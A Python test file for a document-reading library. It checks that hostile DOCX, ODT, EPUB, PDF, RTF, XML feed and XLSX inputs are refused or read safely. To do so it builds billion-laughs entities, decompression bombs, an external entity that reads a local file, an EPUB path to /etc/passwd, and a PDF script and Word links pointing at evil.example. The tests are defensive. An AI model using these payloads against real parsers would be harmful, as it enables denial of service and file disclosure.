"""Files made to do harm are refused with a sentence, or read without what they try to do."""

from __future__ import annotations

import io
import socket
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NoReturn

import docx
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from articles.extraction.furniture import Learnt
from articles.ingest.incoming import Extractor, Incoming, jobs_of
from articles.limits import Limits
from articles.readers import Failure, find

FILES = Path(__file__).parents[2] / "files"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STORY = "The weir of Overmill is open"
SECRET = "the secret of another file"
LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9))
)


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> NoReturn:
        raise AssertionError("A file made the reader use the network.")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def results(path: Path) -> list[Incoming | Failure]:
    extractor = Extractor(Limits(), Learnt())
    jobs = jobs_of(find([path]), extractor.limits)
    return [each for job in jobs for each in extractor.results(job)]


def zipped(files: Mapping[str, str | bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return data.getvalue()


def packed(**files: str | bytes) -> bytes:
    names = {name: name.replace("__", "/").replace("_", ".") for name in files}
    return zipped({names[name]: content for name, content in files.items()})


def word(doctype: str, text: str) -> bytes:
    body = f'{doctype}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
    return packed(word__document_xml=f"{body}</w:body></w:document>")


def open_document(doctype: str, text: str) -> bytes:
    office, of_text = (
        f"urn:oasis:names:tc:opendocument:xmlns:{each}:1.0" for each in ("office", "text")
    )
    return packed(
        mimetype="application/vnd.oasis.opendocument.text",
        content_xml=f'{doctype}<o:document xmlns:o="{office}" xmlns:t="{of_text}"><o:body>'
        f"<t:p>{text}</t:p></o:body></o:document>",
    )


def book(doctype: str, title: str, href: str = "a.html") -> bytes:
    return packed(
        mimetype="application/epub+zip",
        **{
            "META-INF__container_xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:'
            'container"><rootfile full-path="b.opf"/></container>',
            "b_opf": f'{doctype}<package xmlns="http://www.idpf.org/2007/opf"><metadata '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{title}</dc:title></metadata>'
            f'<manifest><item id="a" href="{href}"/></manifest><spine><itemref idref="a"/></spine>'
            "</package>",
            "a_html": f"<html><body><p>{STORY}</p></body></html>",
        },
    )


def outside(path: Path) -> str:
    return f"<!DOCTYPE a [<!ENTITY a9 SYSTEM 'file://{path}'>]>"


def scripted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(FILES / "libreoffice.pdf"))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://evil.example/');"),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = action
    writer.add_attachment("evil.txt", SECRET.encode())
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


def pdf_bomb() -> bytes:
    """A page whose content unpacks to 400 MB."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    stream = DecodedStreamObject()
    packer = zlib.compressobj()
    block = b"q\n" * 500_000
    stream.set_data(b"".join(packer.compress(block) for _ in range(400)) + packer.flush())
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


def linked_word() -> bytes:
    """A Word document with a template and a picture on another computer."""
    document = docx.Document()
    document.add_paragraph(STORY)
    for kind in ("attachedTemplate", "image", "hyperlink"):
        kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
        document.part.relate_to("http://evil.example/a.dotm", kind, is_external=True)
    data = io.BytesIO()
    document.save(data)
    return data.getvalue()


def large_part() -> bytes:
    return packed(word__document_xml=b"<a>" + b" " * 60_000_000)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        pytest.param("a.docx", word(LAUGHS, "&a9;"), "entities", id="laughs in DOCX"),
        pytest.param("a.odt", open_document(LAUGHS, "&a9;"), "entities", id="laughs in ODT"),
        pytest.param("a.epub", book(LAUGHS, "&a9;"), "entities", id="laughs in EPUB"),
        pytest.param("a.docx", large_part, "unpacks to more than", id="bomb in DOCX"),
        pytest.param("a.pdf", pdf_bomb, "", id="bomb in PDF"),
        pytest.param("a.pdf", b"%PDF-1.7\n" + b"<<" * 90_000, "damaged", id="nested PDF"),
        pytest.param("a.rtf", b"{\\rtf1 " + b"{" * 300_000, "", id="nested RTF"),
        pytest.param("a.docx", b"PK\x03\x04" + b"\0" * 90, "damaged", id="no DOCX"),
        pytest.param("a.md", b"---\ntitle: " + b"[[" * 200_000 + b"\n---\n", "", id="Markdown"),
        pytest.param("a.epub", book("", "a", "../../etc/passwd"), "no text", id="path in EPUB"),
        pytest.param("a.warc", b"WARC/1.0\r\n" + b"a: b\r\n" * 9_000, "", id="no WARC"),
    ],
)
def test_a_hostile_file_is_refused(
    tmp_path: Path, name: str, data: bytes | Callable[[], bytes], words: str
) -> None:
    # Every process that runs any test reads this table; bombs take long to make.
    (tmp_path / name).write_bytes(data if isinstance(data, bytes) else data())
    found = results(tmp_path / name)
    assert found
    for each in found:
        assert isinstance(each, Failure), each
        assert words in each.reason
        assert "It could not be read" not in each.reason


def book_of_tables(doctype: str, text: str) -> bytes:
    """An Excel workbook whose only cell has a text."""
    office = "http://schemas.openxmlformats.org"
    sheet = f'<worksheet xmlns="{office}/spreadsheetml/2006/main"><sheetData><row r="1">'
    kinds = f"{office}/officeDocument/2006/relationships"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{office}/package/2006/content-types">'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "xl/workbook.xml": f'<workbook xmlns="{office}/spreadsheetml/2006/main" '
            f'xmlns:r="{kinds}"><sheets><sheet name="a" sheetId="1" r:id="a"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{office}/package/2006/'
            f'relationships"><Relationship Id="a" Type="{kinds}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'{doctype}{sheet}<c r="A1" t="inlineStr"><is><t>{text}</t>'
            '</is></c><c r="B1" t="inlineStr"><is><t>Title</t></is></c></row></sheetData></worksheet>',
        }
    )


def markup(element: str, inside: str) -> Callable[[str, str], bytes]:
    def make(doctype: str, text: str) -> bytes:
        return f"{doctype}<{element}>{inside.format(text)}</{element}>".encode()

    return make


MARKUP = {
    "RSS": markup("rss", "<channel><item><title>{}</title></item></channel>"),
    "Atom": markup("feed", "<entry><title>{}</title></entry>"),
    "NewsML-G2": markup("newsItem", "<contentMeta><headline>{}</headline></contentMeta>"),
    "NewsML 1": markup("NewsML", "<NewsItem><HeadLine>{}</HeadLine></NewsItem>"),
    "NITF": markup("nitf", "<body.head><hl1>{}</hl1></body.head>"),
    "XHTML": markup("html", "<body><p>{}</p></body>"),
    "XLSX": book_of_tables,
}


@pytest.mark.parametrize("make", MARKUP.values(), ids=MARKUP)
@pytest.mark.parametrize(
    "doctype", [LAUGHS, f"<!DOCTYPE a [<!ENTITY a9 '{'ha' * 500}'>]>"], ids=["laughs", "bomb"]
)
def test_entities_are_never_expanded(
    tmp_path: Path, make: Callable[[str, str], bytes], doctype: str
) -> None:
    (tmp_path / "a.bin").write_bytes(make(doctype, f"{STORY} {'&a9;' * 1_000}"))
    found = results(tmp_path / "a.bin")
    assert found
    for each in found:
        assert isinstance(each, Failure) or len(each.capture.text) < 10_000


@pytest.mark.parametrize("make", [word, open_document, book])
def test_no_entity_reads_another_file(tmp_path: Path, make: object) -> None:
    (tmp_path / "secret").write_text(SECRET)
    assert callable(make)
    (tmp_path / "a.bin").write_bytes(make(outside(tmp_path / "secret"), f"{STORY} &a9;"))
    (found,) = results(tmp_path / "a.bin")
    assert isinstance(found, Failure)
    assert "entities" in found.reason


@pytest.mark.parametrize(
    ("data", "start"),
    [(scripted_pdf(), "Weir of Overmill opens to boats"), (linked_word(), STORY)],
    ids=["PDF with a script and a file", "DOCX with links to other computers"],
)
def test_a_document_is_read_without_what_it_would_do(
    tmp_path: Path, data: bytes, start: str
) -> None:
    (tmp_path / "a.bin").write_bytes(data)
    (found,) = results(tmp_path / "a.bin")
    assert isinstance(found, Incoming), found
    assert found.capture.text.startswith(start)
    assert SECRET not in found.capture.text
    assert "evil" not in found.capture.text


@pytest.mark.parametrize(
    ("name", "head"),
    [
        ("a.txt", b"A story"),
        ("a.html", b"<!doctype html>"),
        ("a.pdf", b"%PDF-1.7"),
        ("a.docx", b"PK\x03\x04word/document.xml"),
        ("a.zip", b"PK\x03\x04"),
        ("a.eml", b"Subject: a\nFrom: b\nMessage-ID: <c>\n\n"),
        ("a.warc", b"WARC/1.0\r\n"),
        ("a.gz", b"\x1f\x8b\x08\0"),
    ],
)
def test_a_sparse_file_of_2_gb_is_refused_at_once(tmp_path: Path, name: str, head: bytes) -> None:
    with (tmp_path / name).open("wb") as file:
        file.write(head)
        file.truncate(2_000_000_000)
    tracemalloc.start()
    found = results(tmp_path / name)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert found
    assert all(isinstance(each, Failure) for each in found)
    assert peak < 50_000_000
